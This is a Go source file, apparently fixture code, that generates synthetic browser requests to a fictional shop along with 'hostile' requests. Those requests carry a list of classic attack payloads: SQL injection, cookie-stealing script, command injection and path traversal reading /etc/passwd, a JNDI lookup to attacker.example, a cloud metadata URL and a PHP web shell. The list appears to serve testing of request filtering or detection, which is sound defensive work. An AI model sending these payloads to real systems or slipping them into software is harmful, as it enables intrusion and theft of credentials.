package main

import (
	"fmt"
	"math/rand/v2"
	"net/url"
)

// request is one HTTP request.
type request struct {
	method, path, query string
	headers             [][2]string
	body                string
}

// browser are the headers of a browser, without what a cookie or a body adds: 12 are a request's with a body.
var browser = [][2]string{
	{"host", "shop.example.com"},
	{"user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
	{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
	{"accept-language", "de-AT,de;q=0.8,en;q=0.5"},
	{"accept-encoding", "gzip, deflate, br"},
	{"referer", "https://shop.example.com/start"},
	{"sec-fetch-dest", "document"},
	{"sec-fetch-mode", "navigate"},
	{"sec-fetch-site", "same-origin"},
	{"cache-control", "no-cache"},
}

// sessionID is 32 hexadecimal digits that look like chance.
func sessionID(n int) string {
	r := rand.New(rand.NewPCG(uint64(n), 0)) //nolint:gosec // the same in every run
	return fmt.Sprintf("%016x%016x", r.Uint64(), r.Uint64())
}

func get(n int) request {
	q := url.Values{
		"page": {fmt.Sprint(n)}, "sort": {"price"}, "category": {fmt.Sprintf("garden-%d", n)}, "q": {fmt.Sprintf("red chair %d", n)},
		"session": {sessionID(n)},
	}
	own := [][2]string{{"cookie", "sid=" + sessionID(n+1<<20) + "; theme=dark"}, {"upgrade-insecure-requests", "1"}}
	return request{method: "GET", path: "/products", query: q.Encode(), headers: append(own, browser...)}
}

func post(contentType, body string) request {
	own := [][2]string{{"content-type", contentType}, {"content-length", fmt.Sprint(len(body))}}
	return request{method: "POST", path: "/orders", headers: append(own, browser...), body: body}
}

var payloads = []string{
	"1' UNION SELECT password FROM users--", "<script>alert(document.cookie)</script>", "; cat /etc/passwd", "../../../../etc/passwd",
	"${jndi:ldap://attacker.example/a}", "http://169.254.169.254/latest/meta-data/", "<?php system($_GET['c']); ?>",
}

// hostile is the request of a browser with one of the payloads in turn.
func hostile(n int) request {
	q := url.Values{"id": {fmt.Sprint(n)}, "x": {payloads[n%len(payloads)]}}
	return request{method: "GET", path: "/products", query: q.Encode(), headers: browser}
}
